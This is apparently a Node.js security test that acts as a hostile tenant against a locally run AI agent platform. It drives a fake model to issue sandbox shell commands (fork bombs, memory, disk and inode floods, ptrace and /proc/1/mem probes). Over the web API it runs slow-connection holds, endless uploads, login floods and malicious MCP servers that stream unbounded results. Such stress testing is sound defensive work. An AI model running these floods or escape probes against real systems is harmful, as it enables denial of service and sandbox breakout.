// The hostile account of ../hostile.mjs, in a separate process: runs all attacks concurrently and repeats each as soon
// as it has finished, until standard input closes. Its requests come from 127.0.0.2. Then it prints the number of
// attempts and responses of each attack as JSON.
//   node attacks.mjs '{"url": ..., "token": ..., "sandbox": true, "web": true}'
import { once } from 'node:events';
import http from 'node:http';
import { lastUser, startLlm, turns } from '../../tests/e2e/lib/llm.mjs';
import { result, startScriptedServer } from '../../tests/e2e/lib/mcp.mjs';
import { connect } from '../../tests/security/lib/wire.mjs';

const { url, token, modelPort, sandbox, web } = JSON.parse(process.argv[2]);
const from = '127.0.0.2', MiB = 1 << 20;
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const outcomes = {};
const record = (attack, answer) => { const counts = (outcomes[attack] ??= {}); counts[answer] = (counts[answer] ?? 0) + 1; };
let finished = false;
const sockets = new Set();

// Commands for the sandbox's shell; each model response calls eight of them. System calls (x86-64): 64 semget,
// 68 msgget, 101 ptrace, 302 prlimit64, 438 pidfd_getfd.
const perl = (script) => `perl -e '${script}' 2>/dev/null`;
const commands = {
  fork_bomb: perl('my $until = time + 8; while (time < $until) { fork }'),
  spinning: 'for i in $(seq 40); do timeout 8 sh -c "while :; do :; done" & done; wait',
  memory: perl('for (1 .. 30) { if (!fork) { vec(my $x = q(), 40 << 20, 8) = 1; sleep 8; exit } } 1 while wait > 0'),
  unlinked_files: perl('my $x = q(x) x (1 << 20); my @all; for (1 .. 60) { open my $f, q(>), q(f) or last; unlink q(f); for (1 .. 60) { print $f $x or last } push @all, $f } sleep 5'),
  inode_flood: perl('for my $i (1 .. 300000) { open my $f, q(>), "f$i" or last } sleep 3'),
  deep_tree: perl('for (1 .. 30000) { mkdir q(d) or last; chdir q(d) or last } sleep 3'),
  output_flood: 'yes hostile | head -c 400000000; yes hostile | head -c 400000000 >&2',
  semaphores: perl('for (1 .. 20000) { syscall(64, 0, 32000, 0600); syscall(68, 0, 0600) }'),
  process_1: perl('for (1 .. 20000) { syscall(101, 16, 1, 0, 0); syscall(302, 1, 7, 0, 0); syscall(438, 3, 3, 0); kill 9, 1; open my $m, q(+<), q(/proc/1/mem) and syswrite $m, q(x) }'),
  socket_families: perl('for (1 .. 500) { for my $f (1 .. 45) { for my $t (1, 2, 3, 5) { socket(my $s, $f, $t, 0) } } }'),
  socket_buffers: perl('use Socket; for (1 .. 4) { if (!fork) { my @all; for (1 .. 60) { socketpair(my $a, my $b, AF_UNIX, SOCK_STREAM, 0) or last; for my $s ($a, $b) { fcntl $s, 4, 2048; 1 while syswrite $s, q(x) x 32768 } push @all, $a, $b } sleep 6; exit } } 1 while wait > 0'),
  tcp_buffers: perl('use Socket; my @all; socket(my $l, AF_INET, SOCK_STREAM, 0); bind $l, sockaddr_in(0, INADDR_LOOPBACK) or die; listen $l, 100; my $to = getsockname $l; for (1 .. 60) { socket(my $c, AF_INET, SOCK_STREAM, 0); connect $c, $to or last; accept(my $s, $l); for my $x ($c, $s) { fcntl $x, 4, 2048; 1 while syswrite $x, q(x) x 65536 } push @all, $c, $s } sleep 5'),
  tmp_flood: 'dd if=/dev/zero of=/tmp/x bs=1M count=1000; dd if=/dev/zero of=/dev/shm/x bs=1M count=1000; sleep 2',
  disk_writes: perl('my $x = q(x) x (1 << 20); my $until = time + 8; while (time < $until) { open my $f, q(>), q(w); for (1 .. 40) { print $f $x } close $f; unlink q(w) }'),
};
const names = Object.keys(commands);
let nextCommand = 0;

const agent = new http.Agent({ keepAlive: true, maxSockets: 60, localAddress: from });
function request(method, target, { json, headers = {}, body, auth = token } = {}) {
  return new Promise((resolve) => {
    const payload = json === undefined ? body : JSON.stringify(json);
    const r = http.request(url + target, { method, agent, headers: { ...(auth ? { authorization: `Bearer ${auth}` } : {}), ...(json === undefined ? {} : { 'content-type': 'application/json' }),
      ...(payload === undefined ? {} : { 'content-length': Buffer.byteLength(payload) }), ...headers } }, (res) => {
      const pieces = [];
      let size = 0;
      res.on('data', (d) => { size += d.length; if (size < MiB) pieces.push(d); });
      res.on('close', () => {
        let value;
        try { value = JSON.parse(Buffer.concat(pieces).toString()); } catch { /* not JSON */ }
        resolve({ status: res.statusCode, json: value });
      });
    });
    r.setTimeout(60000, () => r.destroy());
    r.on('error', (e) => resolve({ status: e.code ?? 'error' }));
    r.end(payload);
  });
}
const form = (fields) => {
  const lines = Object.entries(fields).map(([k, v]) => `--b\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`);
  return { headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: `${lines.join('')}--b--\r\n` };
};
const outcome = (r) => (r.status >= 400 && r.json?.detail ? `${r.status} ${r.json.detail.error_code ?? JSON.stringify(r.json.detail).slice(0, 80)}` : String(r.status));

async function loop(attack, body) {
  while (!finished) {
    try {
      await body();
    } catch (e) {
      record(attack, e.code ?? e.message.slice(0, 60));
      await sleep(200);
    }
  }
}
const hammer = (attack, parallel, make) => Array.from({ length: parallel }, (_, i) => loop(attack, async () => {
  const r = await make(i);
  record(attack, outcome(r));
  if (typeof r.status !== 'number') await sleep(200);
}));

async function untilRunEnds(id) {
  while (!finished) {
    const r = await request('GET', `/agent-run/${id}`);
    if (r.status !== 200 || !['running', 'queued', 'pending'].includes(r.json?.status)) return;
    await sleep(300);
  }
}
async function run(attack, prompt) {
  const r = await request('POST', '/agent/start', form({ prompt, model_name: 'evil/model' }));
  record(attack, outcome(r));
  if (r.status !== 200) return sleep(300);
  await untilRunEnds(r.json.agent_run_id);
  const deletion = await request('DELETE', `/threads/${r.json.thread_id}`);
  record(`${attack}: deletions`, outcome(deletion));
}

const attacks = [];
const model = await startLlm((request, reply) => {
  model.seen.length = 0;
  if (turns(request).some((m) => m.role === 'tool')) return reply.say('done');
  const call = /\[call (\S+)\]/.exec(lastUser(request));
  if (call) return reply.tools([{ id: 'c', name: call[1], arguments: {} }]);
  reply.tools(Array.from({ length: 8 }, (_, i) => ({ id: `c${i}`, name: 'shell', arguments: { command: commands[names[nextCommand++ % names.length]], timeout_seconds: 15 } })));
}, { port: modelPort });

if (sandbox) for (let i = 0; i < 2; i++) attacks.push(loop('runs of commands', () => run('runs of commands', 'attack')));

if (web) {
  // A large file for the slow readers.
  const file = `--b\r\nContent-Disposition: form-data; name="prompt"\r\n\r\nkeep\r\n--b\r\nContent-Disposition: form-data; name="model_name"\r\n\r\nevil/model\r\n--b\r\nContent-Disposition: form-data; name="files"; filename="big.bin"\r\n\r\n${'x'.repeat(9 * MiB)}\r\n--b--\r\n`;
  const upload = await request('POST', '/agent/start', { headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: file });
  record('file', outcome(upload));
  const content = `/projects/${upload.json?.project_id}/files/content?path=uploads/big.bin`;
  const head = (method, target, more = '') => `${method} ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\n${more}`;
  // Keeps `count` connections open and replaces each that the server closes.
  const holdConnections = (attack, count, begin) => attacks.push(...Array.from({ length: count }, () => loop(attack, async () => {
    const s = await connect(url, { from });
    sockets.add(s);
    begin(s);
    record(attack, 'connections');
    await Promise.race([once(s, 'close'), sleep(5000 + Math.random() * 10000)]);
    s.destroy();
    sockets.delete(s);
    await sleep(50);
  })));
  holdConnections('slow readers of files', 60, (s) => s.write(`${head('GET', content)}\r\n`));
  holdConnections('slow readers of lists', 60, (s) => s.write(`${head('GET', '/agents?limit=100')}\r\n`.repeat(8)));
  holdConnections('half-sent heads', 300, (s) => { s.resume(); s.write('GET /healthz HTTP/1.1\r\nHos'); });
  holdConnections('idle connections', 300, (s) => s.resume());
  holdConnections('endless uploads', 80, (s) => {
    s.resume();
    s.write(`${head('POST', '/agent/start', 'Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 99000000\r\n')}\r\n--b\r\nContent-Disposition: form-data; name="files"; filename="a.bin"\r\n\r\n`);
    s.write(Buffer.alloc(2 * MiB, 'x'));
    const drip = setInterval(() => (s.destroyed ? clearInterval(drip) : s.write('x'.repeat(2000))), 1000);
  });

  attacks.push(...hammer('agents', 2, (i) => request('POST', '/agents', { json: { name: `a${i}`, system_prompt: 'x'.repeat(60000) } })));
  const agents = (await request('GET', '/agents')).json.agents;
  const agentId = agents[0].agent_id;
  attacks.push(...hammer('versions of an agent', 2, () => request('PUT', `/agents/${agentId}`, { json: { system_prompt: 'x'.repeat(60000) + Math.random() } })));
  attacks.push(...hammer('API keys', 1, () => request('POST', '/api-keys', { json: {} })));
  attacks.push(...hammer('profiles', 1, () => request('POST', '/mcp/profiles', { json: { integration: 'tracker', credentials: { token: 't' } } })));
  let devices = 0;
  attacks.push(...hammer('devices', 1, () => request('POST', '/notifications/device-token', { json: { device_token: `t${devices++}`, device_type: 'x', provider: `p${devices}` } })));
  attacks.push(...hammer('log-ins', 8, (i) => request('POST', '/auth/log-in', { auth: '', json: { email: `n${i}${Math.random()}@example.org`, password: 'wrong password' } })));
  attacks.push(...hammer('lists', 2, () => request('GET', '/agents?limit=100')));

  // Host names whose DNS queries are never answered.
  const tools = `/agents/${agentId}/custom-mcp-tools`;
  let lookups = 0;
  attacks.push(...hammer('unanswered DNS queries', 30, () => request('GET', tools, { headers: { 'x-mcp-url': `http://n${lookups++}.silent.example:9/mcp`, 'x-mcp-type': 'http' } })));

  // MCP servers with large lists and endless results.
  const event = (message) => `data: ${JSON.stringify({ jsonrpc: '2.0', ...message })}\n\n`;
  const bombs = {
    endless: (m, res) => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.setMaxListeners(0);
      res.write(`data: {"jsonrpc":"2.0","id":${m.id},"result":{"content":[{"type":"text","text":"`);
      (async () => { while (!res.destroyed) { if (!res.write('x'.repeat(MiB))) await new Promise((go) => { res.once('drain', go); res.once('close', go); }); } })();
      return true;
    },
    changes: (m, res) => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      (async () => {
        for (let i = 0; i < 20 && !res.destroyed; i++) if (!res.write(event({ method: 'notifications/tools/list_changed' }).repeat(20000))) await new Promise((go) => { res.once('drain', go); res.once('close', go); });
        res.end(event({ id: m.id, result: { content: [{ type: 'text', text: 'over' }] } }));
      })();
      return true;
    },
    images: (m, res) => result(res, m, { content: Array.from({ length: 40000 }, (_, i) => ({ type: 'image', mimeType: 'image/png', data: 'A'.repeat(200) + i })) }),
  };
  const large = Array.from({ length: 3000 }, (_, i) => ({ name: `t${i}`, description: 'd'.repeat(3000), inputSchema: { type: 'object', properties: Object.fromEntries(Array.from({ length: 20 }, (_, k) => [`p${k}`, { type: 'string' }])) } }));
  const peer = await startScriptedServer((m, res) => {
    if (m.method === 'tools/call') return bombs[m.params.name]?.(m, res);
    return undefined;
  }, { tools: Object.keys(bombs).map((name) => ({ name, inputSchema: { type: 'object' } })) });
  const largePeer = await startScriptedServer(undefined, { tools: large });
  attacks.push(...hammer('lists of a large server', 3, () => request('GET', tools, { headers: { 'x-mcp-url': largePeer.url, 'x-mcp-type': 'http', 'cache-control': 'no-cache' } })));
  const put = await request('PUT', tools, { json: { custom_mcps: [{ name: 'bomb', type: 'http', config: { url: peer.url }, enabledTools: Object.keys(bombs) }] } });
  record('bombs are offered', outcome(put));
  attacks.push(loop('runs with bombs', async () => { for (const name of Object.keys(bombs)) await run('runs with bombs', `[call bomb__${name}]`); }));
}

console.log('begun');
process.stdin.resume();
await once(process.stdin, 'end');
finished = true;
for (const s of sockets) s.destroy();
console.log(JSON.stringify(outcomes));
process.exit(0);
